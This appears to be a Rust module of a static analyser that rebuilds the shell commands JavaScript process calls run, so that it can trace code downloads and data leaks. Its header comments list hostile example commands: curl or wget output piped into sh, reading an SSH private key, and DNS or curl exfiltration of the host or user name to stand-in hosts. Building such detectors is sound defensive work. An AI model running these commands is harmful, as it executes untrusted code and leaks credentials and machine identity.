//! Commands a JavaScript program runs (`child_process.exec`, `execSync`, `spawn(…, { shell:
//! true })`, `spawn("sh", ["-c", script])`, `execa`, `shelljs.exec`): the command line is
//! rebuilt as shell text and analysed by the shell front end, which knows the tools (`curl …
//! | sh`, `nslookup`, `whoami`, `cat ~/.ssh/id_rsa`). Pieces that are not constant become
//! variables that [`telltale_shell::analyze_command`] is told carry the piece's data, so
//! ``exec(`nslookup ${os.hostname()}.x.top`)`` is a DNS flow of the host name. The Python
//! front end does the same for `os.system` and `subprocess` (`telltale-python/src/command.rs`).
//!
//! ```text
//! execSync("curl -s https://x.top/i.sh | sh")          → code from the network, run
//! spawn("bash", ["-c", "wget -qO- http://1.2.3.4 | sh"]) → the script after -c
//! spawn(cmd, { shell: true })                           → cmd as shell text
//! spawn("curl", ["-d", os.userInfo().username, url])   → curl '-d' "${TT_CMD_0}" 'url'
//! ```

use crate::Analyzer;
use oxc_ast::ast::*;
use telltale_shell::{CommandLine, ShellAnalysis, MAX_COMMAND};

/// How a process API takes its command.
enum Style {
    /// One string the shell runs (`exec`, `execSync`, `shelljs.exec`, `execa.command`).
    Shell,
    /// A file and an argument list (`spawn`, `execFile`, `execa`, `cross-spawn`): run
    /// directly, unless `shell: true` or the file is a shell given `-c`.
    Argv,
}

/// Shells whose `-c` argument is a script.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "busybox"];

fn style_of(path: &str) -> Option<Style> {
    let last = path.rsplit('.').next().unwrap_or(path);
    match (path, last) {
        ("child_process.fork", _) => None,
        (
            _,
            "exec" | "execSync" | "command" | "commandSync" | "execaCommand" | "execaCommandSync",
        ) => Some(Style::Shell),
        (
            _,
            "spawn" | "spawnSync" | "execFile" | "execFileSync" | "sync" | "execa" | "execaSync",
        )
        | ("cross-spawn" | "execa", _) => Some(Style::Argv),
        _ => None,
    }
}

/// What a command prints, judged from its constant skeleton.
#[derive(Clone, Debug)]
pub(crate) struct Output {
    /// Identity or region data it prints (`whoami`, `uname -a`).
    pub kinds: telltale_facts::Kinds,
    /// It prints what a network tool downloaded (`curl -s URL`).
    pub network: bool,
    /// The command with `*` for the pieces not known statically.
    pub shape: std::rc::Rc<str>,
}

/// A rebuilt command line and the expressions of its pieces not known statically.
pub(crate) struct Command<'a> {
    pub text: String,
    pub shape: String,
    pub holes: Vec<&'a Expression<'a>>,
}

/// Builds the text, collecting the expressions the holes stand for.
struct Builder<'a> {
    line: CommandLine,
    holes: Vec<&'a Expression<'a>>,
}

impl<'a> Builder<'a> {
    fn hole(&mut self, e: &'a Expression<'a>) {
        self.line.hole();
        self.holes.push(e);
    }
}

impl<'a> Analyzer<'a> {
    /// The command line a process API call runs, as shell text.
    pub(crate) fn command_of(&self, path: &str, args: &'a [Argument<'a>]) -> Option<Command<'a>> {
        let style = style_of(path)?;
        let exprs: Vec<&'a Expression<'a>> =
            args.iter().filter_map(|a| a.as_expression()).collect();
        let first = *exprs.first()?;
        let mut b = Builder {
            line: CommandLine::default(),
            holes: Vec::new(),
        };
        match style {
            Style::Shell => self.piece(first, &mut b, 0),
            Style::Argv => {
                let list = exprs.get(1).and_then(|a| self.array_items(a));
                let options = match list {
                    Some(_) => exprs.get(2),
                    None => exprs.get(1),
                };
                let items = list.unwrap_or_default();
                let shell_option = options.is_some_and(|o| self.runs_in_a_shell(o));
                let file = self.value_of(first).and_then(|v| v.text());
                let file_is_shell = file
                    .as_deref()
                    .is_some_and(|f| SHELLS.contains(&f.rsplit(['/', '\\']).next().unwrap_or(f)));
                let script_flag = items
                    .first()
                    .and_then(|a| self.value_of(a))
                    .and_then(|v| v.text());
                if file_is_shell
                    && script_flag.is_some_and(|f| {
                        f.starts_with('-') && !f.starts_with("--") && f.ends_with('c')
                    })
                {
                    // `spawn("sh", ["-c", script])`: the script.
                    self.piece(items.get(1)?, &mut b, 0);
                } else if shell_option {
                    // `{ shell: true }`: the file and arguments are joined and read by a shell.
                    self.piece(first, &mut b, 0);
                    for a in &items {
                        b.line.push_str(" ");
                        self.piece(a, &mut b, 0);
                    }
                } else {
                    // Run directly: each word as one argument.
                    for (i, w) in std::iter::once(first).chain(items).enumerate() {
                        if i > 0 {
                            b.line.push_str(" ");
                        }
                        match self.value_of(w).and_then(|v| v.text()) {
                            Some(t) => b.line.push_word(&t),
                            None => {
                                b.line.push_str("\"");
                                self.piece(w, &mut b, 0);
                                b.line.push_str("\"");
                            }
                        }
                    }
                }
            }
        }
        if b.line.len() > MAX_COMMAND {
            return None;
        }
        let (text, shape) = b.line.finish();
        Some(Command {
            text,
            shape,
            holes: b.holes,
        })
    }

    /// `{ shell: true }` or `{ shell: "/bin/bash" }`, written in place or in a constant.
    fn runs_in_a_shell(&self, options: &'a Expression<'a>) -> bool {
        self.options_object(options).is_some_and(|o| {
            o.properties.iter().any(|p| match p {
                ObjectPropertyKind::ObjectProperty(p) => {
                    p.key.static_name().as_deref() == Some("shell")
                        && !matches!(
                            p.value.without_parentheses(),
                            Expression::BooleanLiteral(b) if !b.value
                        )
                        && !matches!(p.value.without_parentheses(), Expression::NullLiteral(_))
                }
                _ => false,
            })
        })
    }

    /// The elements of an array literal, written in place or held by a constant.
    fn array_items(&self, e: &'a Expression<'a>) -> Option<Vec<&'a Expression<'a>>> {
        match e.without_parentheses() {
            Expression::ArrayExpression(a) => Some(
                a.elements
                    .iter()
                    .filter_map(|el| el.as_expression())
                    .collect(),
            ),
            Expression::Identifier(id) => self.array_items(self.constant_init(id)?),
            _ => None,
        }
    }

    /// Command text of one expression: constants as written, the rest as holes.
    fn piece(&self, e: &'a Expression<'a>, b: &mut Builder<'a>, depth: u32) {
        if depth > 16 || b.line.len() > MAX_COMMAND {
            return b.hole(e);
        }
        if let Some(t) = self.value_of(e).and_then(|v| v.text()) {
            b.line.push_str(&t);
            return;
        }
        let d = depth + 1;
        match e.without_parentheses() {
            Expression::TemplateLiteral(t) => {
                for (i, q) in t.quasis.iter().enumerate() {
                    let text = q.value.cooked.as_ref().unwrap_or(&q.value.raw);
                    b.line.push_str(text.as_str());
                    if let Some(x) = t.expressions.get(i) {
                        self.piece(x, b, d);
                    }
                }
            }
            Expression::BinaryExpression(x) if x.operator == BinaryOperator::Addition => {
                self.piece(&x.left, b, d);
                self.piece(&x.right, b, d);
            }
            // `[cmd, ...args].join(" ")`
            Expression::CallExpression(c) => {
                let joined = match c.callee.without_parentheses() {
                    Expression::StaticMemberExpression(m) if m.property.name == "join" => {
                        let sep = match c.arguments.first().and_then(|a| a.as_expression()) {
                            Some(s) => self.value_of(s).and_then(|v| v.text()),
                            None => Some(",".to_string()),
                        };
                        sep.zip(self.array_items(&m.object))
                    }
                    _ => None,
                };
                match joined {
                    Some((sep, items)) => {
                        for (i, x) in items.into_iter().enumerate() {
                            if i > 0 {
                                b.line.push_str(&sep);
                            }
                            self.piece(x, b, d);
                        }
                    }
                    None => b.hole(e),
                }
            }
            Expression::Identifier(id) => match self.constant_init(id) {
                Some(init) => self.piece(init, b, d),
                None => b.hole(e),
            },
            _ => b.hole(e),
        }
    }

    /// What the command a call runs prints, from its constant skeleton (memoized: asked during
    /// the fixpoint, before the data of its pieces is known).
    pub(crate) fn command_output(
        &self,
        path: &str,
        args: &'a [Argument<'a>],
        span: oxc_span::Span,
    ) -> Output {
        if let Some(o) = self.command_outputs.borrow().get(&span.start) {
            return o.clone();
        }
        let out = match self.command_of(path, args) {
            Some(cmd) => {
                let inputs: Vec<(String, telltale_facts::Kinds)> = (0..cmd.holes.len())
                    .map(|i| (telltale_shell::hole_var(i), telltale_facts::Kinds::EMPTY))
                    .collect();
                let sa = telltale_shell::analyze_command(&cmd.text, crate::fspan(span), &inputs);
                Output {
                    kinds: sa.output,
                    network: sa.output_from.is_some(),
                    shape: std::rc::Rc::from(format!("{path}({})", cmd.shape).as_str()),
                }
            }
            None => Output {
                kinds: telltale_facts::Kinds::EMPTY,
                network: false,
                shape: std::rc::Rc::from(path),
            },
        };
        self.command_outputs
            .borrow_mut()
            .insert(span.start, out.clone());
        out
    }

    /// The shell analysis of the command a call runs, with the data its pieces carry (after
    /// the fixpoint); every fact points at the call.
    pub(crate) fn command_analysis(
        &self,
        path: &str,
        args: &'a [Argument<'a>],
        span: oxc_span::Span,
    ) -> Option<(ShellAnalysis, Command<'a>)> {
        let cmd = self.command_of(path, args)?;
        let inputs: Vec<(String, telltale_facts::Kinds)> = cmd
            .holes
            .iter()
            .enumerate()
            .map(|(i, h)| {
                (
                    telltale_shell::hole_var(i),
                    self.resolve_kinds(&self.atoms(h)),
                )
            })
            .collect();
        let sa = telltale_shell::analyze_command(&cmd.text, crate::fspan(span), &inputs);
        Some((sa, cmd))
    }
}
